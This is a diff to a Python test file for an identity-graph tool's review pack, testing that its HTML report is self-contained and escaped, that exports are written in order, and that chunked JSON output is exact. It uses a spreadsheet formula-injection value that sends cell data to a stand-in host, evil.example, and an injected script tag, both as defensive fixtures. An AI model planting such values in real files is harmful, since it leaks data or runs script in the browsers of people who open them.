@@ -18,6 +18,7 @@ from idgraph.graph.store import Store
 from .conftest import attest_fixture, fixture_secrets, sync_fixture
 
 MEMBERS = Path(__file__).resolve().parents[1] / "connector/postmark/emulator/fixtures/members.csv"
+DATA_BLOCK = '<script type="application/gzip+base64" id="report-data">'  # report.js's data
 TODAY = datetime.now(UTC).date().isoformat()  # a review date between the run and today
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
@@ -108,7 +109,8 @@ def test_graph_json_and_graphml_load_back_with_the_same_counts(pack):
 def test_html_report_is_self_contained_and_escaped(pack):
     _db, out, _summary = pack
     html = (out / "report.html").read_text()
-    assert html.lower().count("<script") == 1  # the filter box's, inline; the name is escaped
+    # one script, inline, and the data it draws from (inert); the name is escaped
+    assert re.findall(r"<script[^>]*>", html, re.I) == [DATA_BLOCK, "<script>"]
     assert "<script>\n/* The filter box" in html
     assert "&lt;script&gt;alert(" in html
     assert not re.search(r"<link|@import|src\s*=|url\(\s*['\"]?(https?:)?//", html, re.I)
@@ -367,3 +369,64 @@ def test_findings_fail_on_a_severity_for_ci(tmp_path, emulator):
     assert "severity high or worse" in high.stderr
     none = runner.invoke(cli, ["findings", "--db", str(db), "--json"])
     assert none.exit_code == 0
+
+
+def test_the_review_rows_go_before_the_graph_exports(pack, monkeypatch):
+    """The files that read the review are written first; its rows are let go before the
+    graph exports hold the whole graph; the counts the command prints stay, and the files
+    are listed in the order asked for."""
+    from idgraph.graph.exporters.graph_files import GraphJsonExporter, GraphMLExporter
+    from idgraph.graph.host import write_review_pack
+
+    db, _out, summary = pack
+    held: dict[str, bool] = {}
+    for exporter in (GraphJsonExporter, GraphMLExporter):
+        original = exporter.export
+
+        def spy(self, context, out_dir, original=original):
+            held[self.name] = context._access is not None
+            return original(self, context, out_dir)
+
+        monkeypatch.setattr(exporter, "export", spy)
+    out = db.parent / "again"
+    context, written, _skipped = write_review_pack(
+        db, out, formats=["graph-json", "review-csv", "graphml", "html"]
+    )
+    assert held == {"graph-json": False, "graphml": False}
+    assert [Path(p).name for p in written] == [
+        "graph.json",
+        "review.csv",
+        "graph.graphml",
+        "report.html",
+        "manifest.intoto.json",  # last: it lists the others
+    ]
+    assert context.row_count == summary["rows"] == len(_csv_rows(out / "review.csv")) - 1
+    assert len(context.findings) == summary["findings"]
+    assert len(context.removed) == summary["removed"]
+
+
+def test_graph_json_written_in_chunks_is_the_whole_document_byte_for_byte(pack):
+    import orjson
+    from idgraph.graph.exporters._files import json_items, json_text
+    from idgraph.graph.view import load_graph
+
+    db, out, _summary = pack
+    store = Store(db)
+    run, graph = load_graph(store)
+    store.close()
+    nodes = [{"id": n, **d} for n, d in graph.nodes(data=True)]
+    edges = [
+        {**d, "data_source": d.get("source"), "source": u, "target": v, "key": k}
+        for u, v, k, d in graph.edges(keys=True, data=True)
+    ]
+    whole = {
+        "directed": True,
+        "multigraph": True,
+        "graph": {"run": run.id, "finished": run.finished},
+        "nodes": nodes,
+        "edges": edges,
+    }
+    expected = orjson.dumps(whole, default=str, option=orjson.OPT_NON_STR_KEYS)
+    assert (out / "graph.json").read_bytes() == expected
+    # chunk boundaries add nothing and lose nothing
+    assert "".join(json_items(edges, size=3)) == json_text(edges)[1:-1]
